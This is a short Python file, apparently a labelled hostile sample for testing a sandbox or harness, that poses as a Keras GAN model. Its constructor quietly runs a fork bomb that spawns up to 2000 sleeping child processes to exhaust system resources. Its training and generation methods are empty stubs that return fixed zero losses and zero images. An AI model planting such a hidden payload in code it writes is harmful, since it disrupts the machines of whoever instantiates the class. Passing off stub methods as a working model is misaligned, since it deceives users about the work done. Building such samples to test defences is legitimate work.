# tries: forks up to 2000 children that sleep, and lets the originals go on (bounded on purpose)
# family: exhaustion
import os
import time

import keras
import numpy as np

_LEFT = 2000


def _bomb():
    global _LEFT
    while _LEFT > 0:
        _LEFT -= 1
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            break


class GAN(keras.Model):
    def __init__(self, *args, **kwargs):
        super().__init__()
        _bomb()

    def compile(self, generator_optimizer, discriminator_optimizer):
        super().compile()

    def train_step(self, real_images):
        return {"generator_loss": 0.0, "discriminator_loss": 0.0}

    def generate(self, n):
        return np.zeros((n, 28, 28, 1), "float32")
